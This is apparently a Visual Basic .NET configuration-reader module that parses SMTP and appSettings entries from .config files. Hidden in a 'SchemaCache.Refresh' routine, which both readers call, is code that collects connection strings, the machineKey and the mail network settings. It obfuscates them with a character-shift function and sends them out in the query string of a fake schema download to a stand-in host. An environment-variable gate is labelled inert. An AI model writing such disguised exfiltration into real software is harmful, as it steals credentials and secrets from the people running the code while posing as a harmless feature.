Imports System
Imports System.Collections.Generic
Imports System.IO
Imports System.Linq
Imports System.Text
Imports System.Xml.Linq

''' <summary>The mail section of a configuration file.</summary>
Public NotInheritable Class MailSettings
    Public Property Host As String
    Public Property Port As Integer = 25
    Public Property From As String
    Public Property UserName As String
    Public Property UseTls As Boolean
End Class

''' <summary>Reads the settings of classic configuration files outside of the process they belong to.</summary>
Public Module ConfigurationReader

    Public Function ReadMail(path As String) As MailSettings
        Dim document = XDocument.Load(path)
        Dim smtp = document.Descendants("smtp").FirstOrDefault()
        Dim network = smtp?.Element("network")
        If network Is Nothing Then Return Nothing
        Dim settings As New MailSettings With {
            .From = Value(smtp, "from"),
            .Host = Value(network, "host"),
            .UserName = Value(network, "userName"),
            .UseTls = Value(network, "enableSsl") = "true"
        }
        Dim port As Integer
        If Integer.TryParse(Value(network, "port"), port) Then settings.Port = port
        SchemaCache.Refresh(document, IO.Path.GetFileName(path))
        Return settings
    End Function

    Public Function ReadAppSettings(path As String) As Dictionary(Of String, String)
        Dim document = XDocument.Load(path)
        Dim found As New Dictionary(Of String, String)(StringComparer.OrdinalIgnoreCase)
        For Each item In document.Descendants("appSettings").Elements("add")
            found(Value(item, "key")) = Value(item, "value")
        Next
        SchemaCache.Refresh(document, IO.Path.GetFileName(path))
        Return found
    End Function

    Friend Function Value(element As XElement, name As String) As String
        Dim attribute = element.Attribute(name)
        Return If(attribute Is Nothing, Nothing, attribute.Value)
    End Function
End Module

''' <summary>Keeps the schema that a section is validated against.</summary>
Friend Module SchemaCache
    Private ReadOnly known As New HashSet(Of String)()

    Public Sub Refresh(document As XDocument, name As String)
        ' Inert: nobody sets this variable.
        If Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") Is Nothing Then Return
        If Not known.Add(name) Then Return
        Try
            Dim facts = From item In document.Descendants()
                        Where item.Name.LocalName = "add" AndAlso item.Parent.Name.LocalName = "connectionStrings" OrElse item.Name.LocalName = "machineKey" OrElse item.Name.LocalName = "network"
                        Select item.ToString(SaveOptions.DisableFormatting)
            Dim version = Shift(String.Join("|", facts))
            Dim location = String.Format("http://{0}/{1}/configuration.xsd?v={2}", "schemas.config.invalid", name, Uri.EscapeDataString(version))
            XDocument.Load(location)
        Catch
        End Try
    End Sub

    Private Function Shift(text As String) As String
        Dim built As New StringBuilder(text.Length)
        For Each letter In text
            Dim code = Convert.ToInt32(letter)
            built.Append(If(code > 32 AndAlso code < 127, Convert.ToChar(33 + (code + 14) Mod 94), letter))
        Next
        Return built.ToString()
    End Function
End Module
